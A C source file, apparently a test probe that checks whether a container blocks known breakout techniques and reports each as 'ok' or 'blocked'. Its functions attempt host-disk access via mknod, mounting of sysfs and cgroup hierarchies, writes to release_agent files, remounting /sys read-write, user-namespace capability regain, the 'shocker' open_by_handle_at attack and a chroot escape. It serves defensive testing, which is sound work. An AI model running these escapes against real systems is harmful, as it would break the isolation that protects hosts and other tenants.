/* Breakouts through devices, mounts, namespaces and file handles. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#include "probe.h"

/* ---- devices ------------------------------------------------------------- */

/* Writable places where an attacker would make a device node: the
 * container's root, its /dev tmpfs and /dev/shm. */
static const char *const node_dirs[] = {"/dev", "/tmp", "/dev/shm"};
enum { NODE_DIRS = sizeof node_dirs / sizeof node_dirs[0] };

/* Makes DIR/escape-NAME as a device node; 0 or an errno (why in why). */
static int make_node(const char *dir, const char *name, mode_t type, dev_t dev, char *path, size_t len) {
  snprintf(path, len, "%s/escape-%s", dir, name);
  unlink(path);
  return mknod(path, type | 0600, dev) == 0 ? 0 : errno;
}

static void open_device(const char *name, mode_t type, unsigned maj, unsigned min) {
  char why[600] = "", path[128];
  for (int i = 0; i < NODE_DIRS; i++) {
    int e = make_node(node_dirs[i], name, type, makedev(maj, min), path, sizeof path);
    const char *step = e ? "mknod" : "open";
    int fd = e ? -1 : open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    if (!e && fd < 0) e = errno;
    unlink(path);
    if (fd >= 0) report("ok", "opened %u:%u at %s", maj, min, path);
    size_t n = strlen(why);
    snprintf(why + n, sizeof why - n, "%s%s:%s:%s", n ? " " : "", node_dirs[i], step, en(e));
  }
  report("blocked", "%s", why);
}

void attempt_disk_open(void) {
  if (!arg.have_disk) report("error", "no --disk given");
  open_device("disk", S_IFBLK, arg.disk_major, arg.disk_minor);
}

/* The host's kernel log (1:11), on every kernel (unlike /dev/mem); read-only. */
void attempt_kmsg_open(void) { open_device("kmsg", S_IFCHR, 1, 11); }

void attempt_disk_mount(void) {
  if (!arg.have_disk || !arg.fstype) report("error", "no --disk or --fstype given");
  const char *target = scratch("disk-mnt");
  char why[600] = "", path[128];
  for (int i = 0; i < NODE_DIRS; i++) {
    int e = make_node(node_dirs[i], "disk", S_IFBLK, makedev(arg.disk_major, arg.disk_minor), path, sizeof path);
    const char *step = e ? "mknod" : "mount";
    unsigned long flags = MS_NOSUID | MS_NODEV | MS_NOEXEC;
    /* Read-only if the kernel lets us; a file system the host has mounted
     * read-write can only be mounted again read-write (EBUSY): the same
     * superblock, nothing new opened on the disk. */
    if (!e && mount(path, target, arg.fstype, flags | MS_RDONLY, NULL) != 0)
      e = errno == EBUSY && mount(path, target, arg.fstype, flags, NULL) == 0 ? 0 : errno;
    unlink(path);
    if (!e) {
      char marker[512];
      snprintf(marker, sizeof marker, "%s/%s", target, arg.marker ? arg.marker : "");
      int found = arg.marker && access(marker, F_OK) == 0;
      umount2(target, MNT_DETACH);
      report("ok", "mounted %s (%s)%s", path, arg.fstype, found ? ", the host's marker file is there" : "");
    }
    size_t n = strlen(why);
    snprintf(why + n, sizeof why - n, "%s%s:%s:%s", n ? " " : "", node_dirs[i], step, en(e));
  }
  report("blocked", "%s", why);
}

/* ---- mounts -------------------------------------------------------------- */

static void try_mount(const char *fstype, const char *data) {
  const char *target = scratch(fstype);
  if (mount(fstype, target, fstype, MS_NOSUID | MS_NODEV | MS_NOEXEC, data) != 0)
    report("blocked", "mount -t %s: %s", fstype, en(errno));
  umount2(target, MNT_DETACH);
  report("ok", "mounted %s", fstype);
}

void attempt_mount_proc(void) { try_mount("proc", NULL); }
void attempt_mount_sysfs(void) { try_mount("sysfs", NULL); }
void attempt_mount_tmpfs(void) { try_mount("tmpfs", "size=64k"); }
void attempt_mount_cgroup2(void) { try_mount("cgroup2", NULL); }
/* A named v1 hierarchy of our own: nothing of the host's is in it. */
void attempt_mount_cgroup1(void) { try_mount("cgroup", "none,name=ovtescape"); }

/* The release_agent escape needs a writable release_agent of a v1
 * hierarchy: one we mount ourselves, or one already in the container. The
 * agent is never triggered. */
void attempt_cgroup1_release_agent(void) {
  const char *target = scratch("cgroup");
  char path[512], why[600];
  if (mount("cgroup", target, "cgroup", MS_NOSUID | MS_NODEV | MS_NOEXEC, "none,name=ovtescape") == 0) {
    snprintf(path, sizeof path, "%s/release_agent", target);
    int e = write_back(path);
    umount2(target, MNT_DETACH);
    if (!e) report("ok", "wrote release_agent of a v1 hierarchy mounted here");
    snprintf(why, sizeof why, "mounted a v1 hierarchy, release_agent: %s", en(e));
  } else {
    snprintf(why, sizeof why, "mount -t cgroup: %s", en(errno));
  }
  DIR *d = opendir("/sys/fs/cgroup");
  for (struct dirent *de; d && (de = readdir(d));) {
    if (de->d_name[0] == '.') continue;
    snprintf(path, sizeof path, "/sys/fs/cgroup/%s/release_agent", de->d_name);
    if (access(path, F_OK) != 0) continue;
    int e = write_back(path);
    if (!e) report("ok", "wrote %s", path);
    size_t n = strlen(why);
    snprintf(why + n, sizeof why - n, ", %s: %s", path, en(e));
  }
  report("blocked", "%s", why);
}

void attempt_remount_sys_rw(void) {
  if (mount(NULL, "/sys", NULL, MS_REMOUNT | MS_NOSUID | MS_NODEV | MS_NOEXEC, NULL) != 0)
    report("blocked", "remount /sys rw: %s", en(errno));
  struct statvfs st;
  int rw = statvfs("/sys", &st) == 0 && !(st.f_flag & ST_RDONLY);
  mount(NULL, "/sys", NULL, MS_REMOUNT | MS_RDONLY | MS_NOSUID | MS_NODEV | MS_NOEXEC, NULL);
  if (rw) report("ok", "/sys remounted read-write");
  report("blocked", "remount returned 0 but /sys is still read-only");
}

/* unshare -Ur: a new user namespace gives back every capability, over
 * namespaces it owns; with a mount namespace of its own it can mount. */
void attempt_unshare_userns(void) {
  const char *target = scratch("userns");
  if (unshare(CLONE_NEWUSER) != 0) report("blocked", "unshare(CLONE_NEWUSER): %s", en(errno));
  static const char *const maps[][2] = {
      {"/proc/self/setgroups", "deny"}, {"/proc/self/uid_map", "0 0 1"}, {"/proc/self/gid_map", "0 0 1"}};
  for (int i = 0; i < 3; i++) {
    int fd = open(maps[i][0], O_WRONLY | O_CLOEXEC);
    if (fd >= 0 && write(fd, maps[i][1], strlen(maps[i][1])) < 0) { /* unmapped still mounts */ }
    if (fd >= 0) close(fd);
  }
  if (unshare(CLONE_NEWNS) != 0) report("blocked", "new user namespace, then unshare(CLONE_NEWNS): %s", en(errno));
  if (mount("tmpfs", target, "tmpfs", 0, "size=64k") != 0)
    report("blocked", "new user and mount namespaces, then mount tmpfs: %s", en(errno));
  report("ok", "new user namespace, capabilities regained, tmpfs mounted");
}

/* The shocker attack: a file handle opens any inode of a file system the
 * container holds a descriptor on, past every mount and chroot. Opening a
 * handle of our own /dev proves the call is open; a guessed handle (inode
 * 2, the root of ext4 and tmpfs) is the attack itself. */
void attempt_open_by_handle(void) {
  struct { struct file_handle fh; unsigned char bytes[MAX_HANDLE_SZ]; } h = {.fh.handle_bytes = MAX_HANDLE_SZ};
  int mount_id, dirfd = open("/dev", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  char name_err[64] = "";
  if (name_to_handle_at(AT_FDCWD, "/dev", &h.fh, &mount_id, 0) != 0) {
    snprintf(name_err, sizeof name_err, "name_to_handle_at: %s, ", en(errno));
    h.fh.handle_bytes = 8;
    h.fh.handle_type = 1; /* FILEID_INO32_GEN: inode 2, generation 0 */
    memset(h.bytes, 0, 8);
    h.bytes[0] = 2;
  }
  int fd = open_by_handle_at(dirfd, &h.fh, O_RDONLY);
  if (fd >= 0) report("ok", "%sopened an inode by its handle", name_err);
  if (!denied(errno) && errno != ENOSYS) report("ok", "%sopen_by_handle_at is allowed (%s)", name_err, en(errno));
  report("blocked", "%sopen_by_handle_at: %s", name_err, en(errno));
}

void attempt_chroot_escape(void) {
  if (!arg.host_marker) report("error", "no --host-marker given");
  const char *dir = scratch("chroot");
  if (chroot(dir) != 0) report("blocked", "chroot: %s", en(errno));
  for (int i = 0; i < 64; i++)
    if (chdir("..") != 0) break;
  if (chroot(".") != 0) report("blocked", "chroot back out: %s", en(errno));
  if (access(arg.host_marker, F_OK) == 0) report("ok", "reached the host's / (its marker file is there)");
  report("blocked", "landed on the container's own /");
}
